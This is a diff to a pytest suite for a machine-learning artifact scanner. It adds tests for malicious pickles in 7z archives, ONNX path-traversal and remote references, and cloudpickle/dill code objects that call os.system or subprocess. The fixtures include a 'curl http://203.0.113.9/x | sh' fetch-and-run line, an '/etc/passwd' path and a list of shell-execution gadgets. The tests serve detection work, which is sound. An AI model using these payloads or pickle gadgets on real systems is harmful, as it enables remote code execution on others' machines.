@@ -11,6 +11,7 @@ import struct
 
 import pytest
 
+from aisec_ci.model import Gap
 from tests.artifacts.generators import (
     blob,
     call,
@@ -30,6 +31,7 @@ from tests.artifacts.generators import (
     pickle,
     safetensors,
     saved_model,
+    seven_zip,
     shell,
     stack_name,
     state_dict,
@@ -43,7 +45,7 @@ from tests.artifacts.generators import (
     zipped,
     zlib_window,
 )
-from tests.artifacts.scanning import failing, findings
+from tests.artifacts.scanning import failing, findings, reports
 
 GADGETS = """
 os.system posix.system nt.system os.popen os.execv os.spawnlp subprocess.Popen subprocess.check_output commands.getoutput pty.spawn
@@ -388,6 +390,8 @@ OTHERS = {
     "TensorFlow reads in a function": ("saved_model.pb", saved_model(tf_node("ReadFile"), in_function=True)),
     "TensorFlow Python": ("saved_model.pb", saved_model(tf_node("EagerPyFunc"))),
     "ONNX above": ("m.onnx", onnx("../../x")),
+    "ONNX of another name": ("weights.dat", onnx("../../x")),
+    "ONNX without a producer": ("weights.bin", onnx("../../x", producer="")),
     "ONNX absolute": ("m.onnx", onnx("/etc/passwd")),
     "ONNX remote": ("m.onnx", onnx("http://203.0.113.3/w")),
     "ONNX attribute": ("m.onnx", onnx("x", key="__class__")),
@@ -465,6 +469,68 @@ def test_what_looks_like_a_pickle_by_chance_is_silent() -> None:
     noise = random.Random(1).randbytes(1 << 20)
     for path in ("a.png", "m.bin", "m.h5", "weights.dat"):
         assert not findings(path, b"\0\1" + noise + b"\x80\x04c__torch__.x\n_script\n(tR.")
+
+
+SEVEN = ["stored", "lzma", "lzma2", "x86", "deflate", "bzip2"]
+
+
+@pytest.mark.parametrize("method", SEVEN)
+@pytest.mark.parametrize("path", ["a.7z", "model.pt", "weights"])
+def test_seven_zip(method: str, path: str) -> None:
+    data = seven_zip("data.pkl", shell(command="curl http://203.0.113.9/x | sh # " + "x" * 200), method)
+    (found,) = [f for f in failing(path, data) if f.rule_id == "malicious-pickle"]
+    assert "member data.pkl" in found.location.inside
+
+
+def test_seven_zip_leaves_its_folder() -> None:
+    assert failing("a.7z", seven_zip("../../x", b"1"))
+    assert not findings("a.7z", seven_zip("notes.txt", b"1" * 300, "lzma2"))
+
+
+def test_what_a_seven_zip_hides_is_said() -> None:
+    assert any(
+        "encryption" in r.reason for r in reports("a.7z", seven_zip("x", b"1", "encrypted")) if isinstance(r, Gap)
+    )
+
+
+def code_object(*names: str, constant: str = "x") -> bytes:
+    """How cloudpickle writes a function's code."""
+    code = call(name("cloudpickle.cloudpickle", "_builtin_type"), "CodeType")
+    return call(code, 1, 0, 0, 1, 2, 3, blob(b"\x97\0"), (None, constant), names, ("x",), "f.py", "f", 1, blob(b""))
+
+
+def carried_function(*names: str, constant: str = "x") -> bytes:
+    """How cloudpickle writes a function."""
+    return call(
+        name("cloudpickle.cloudpickle", "_make_function"), code_object(*names, constant=constant), {}, "f", None, None
+    )
+
+
+def test_ordinary_carried_functions_do_not_fail() -> None:
+    instance = (
+        call(name("cloudpickle.cloudpickle", "_make_skeleton_class"), name("builtins", "type"), "Net", ()) + b")\x81}b"
+    )
+    slices = call(call(name("dill._dill", "_load_type"), "slice"), 0, 2, None)
+    for body in (carried_function("np", "log"), carried_function("eval", "model"), instance, slices):
+        assert not failing("model.pkl", pickle(body)), findings("model.pkl", pickle(body))
+    assert not [f for f in findings("model.pkl", pickle(slices)) if f.rule_id != "pickle-model"]
+
+
+CODE = {
+    "a command": carried_function("os", "system"),
+    "a process": carried_function("subprocess", "Popen"),
+    "an import by name": carried_function("__import__"),
+    "a command among the constants": carried_function("f", constant="curl http://203.0.113.9/x | sh"),
+    "called": call(carried_function("np", "log"), "x"),
+    "called by map": call(name("itertools", "starmap"), carried_function("np"), ()),
+    "no type": call(call(name("cloudpickle.cloudpickle", "_builtin_type"), "sys"), "x"),
+    "code of dill": call(name("dill._dill", "_create_code"), blob(b""), ("os", "popen"), "f"),
+}
+
+
+@pytest.mark.parametrize("kind", CODE)
+def test_carried_code(kind: str) -> None:
+    assert failing("model.pkl", pickle(CODE[kind])), findings("model.pkl", pickle(CODE[kind]))
 
 
 STREAMS = {
